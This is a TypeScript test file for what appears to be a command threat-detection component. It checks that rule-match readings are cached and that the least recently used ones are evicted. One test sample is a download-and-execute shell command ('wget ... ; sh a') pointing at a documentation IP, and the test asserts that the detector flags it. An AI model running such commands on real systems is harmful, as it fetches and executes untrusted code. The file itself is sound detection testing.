import assert from 'node:assert/strict'
import { test } from 'node:test'
import { ownText } from '../../../src/core/event.ts'
import { LIMITS } from '../../../src/limits.ts'
import { readingOf } from '../../../src/web/data/sessions.ts'
import { rules } from '../../support/loading.ts'

/** The rules of the program, and how often they were asked. */
function countedRules() {
  const asked = { times: 0 }
  const counting = Object.create(rules, {
    match: {
      value: (...given: Parameters<typeof rules.match>) => {
        asked.times += 1
        return rules.match(...given)
      },
    },
  }) as typeof rules // all that it is asked for
  return { asked, counting }
}

test('what rules say of a text is asked once, and is what they say', () => {
  const { asked, counting } = countedRules()
  for (const text of ['wget http://192.0.2.1/a; sh a', 'uname -a', 'x'].map(ownText)) {
    const verdict = rules.match(text, 'command')
    const first = readingOf(counting, text)
    assert.equal(first.score, Math.max(verdict.threat, verdict.hazard))
    assert.equal(readingOf(counting, text), first)
  }
  assert.ok(readingOf(counting, ownText('wget http://192.0.2.1/a; sh a')).techniques.length > 0)
  assert.equal(asked.times, 3)
})

test('so many readings are kept and no more: those that were not asked for lately go', () => {
  const { asked, counting } = countedRules()
  const often = ownText('uname')
  for (let i = 0; i < LIMITS.gistReadingsKept + 10; i += 1) {
    readingOf(counting, ownText(`w ${i}`))
    readingOf(counting, often)
  }
  const before = asked.times
  readingOf(counting, often)
  readingOf(counting, ownText(`w ${LIMITS.gistReadingsKept}`))
  assert.equal(asked.times, before)
  readingOf(counting, ownText('w 0'))
  assert.equal(asked.times, before + 1)
})
